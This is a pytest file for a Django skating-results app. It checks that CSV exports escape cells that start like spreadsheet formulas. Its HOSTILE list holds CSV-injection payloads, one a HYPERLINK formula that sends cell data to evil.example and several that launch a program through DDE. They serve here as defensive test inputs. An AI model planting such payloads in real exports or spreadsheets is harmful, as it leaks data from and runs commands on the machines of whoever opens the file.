"""Every CSV Oval writes keeps names from becoming spreadsheet formulas (timing/csvsafe.py)."""
import csv
import io

import pytest
from django.core.management import call_command

from timing import csvsafe, services
from timing.startlists import Entry, create_race

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_gets_an_apostrophe(value):
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+0.28", "-0.15", "-0.003", "+1:02.35", "0.00", "Femke Kok", "1:14.55", "", None, 3, -2])
def test_plain_values_numbers_and_signed_times_are_left_alone(value):
    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("value", ["-1+1", "+0.28+cmd|x", "-1:02.35 ", "+.5", "-", "+"])
def test_a_signed_number_with_anything_after_it_is_escaped(value):
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.django_db
def test_exportresults_writes_hostile_names_as_text():
    entries = [Entry(n // 2 + 1, "inner" if n % 2 == 0 else "outer", name, "NED") for n, name in enumerate(HOSTILE)]
    race = create_race("Test Games", "Men's 500 m", "Men", 500, entries)
    for n, e in enumerate(entries):
        services.record_passing(race.id, e.pair, e.lane, 500, 35_000 + 280 * n, services.REPLAY)
    out = io.StringIO()
    call_command("exportresults", str(race.id), stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE)
    assert all(not r[c].startswith(csvsafe.FORMULA_STARTS) or csvsafe.SIGNED_NUMBER.fullmatch(r[c])
               for r in rows for c in r)
    assert {r["behind"] for r in rows} >= {"+0.28"}  # results stay readable
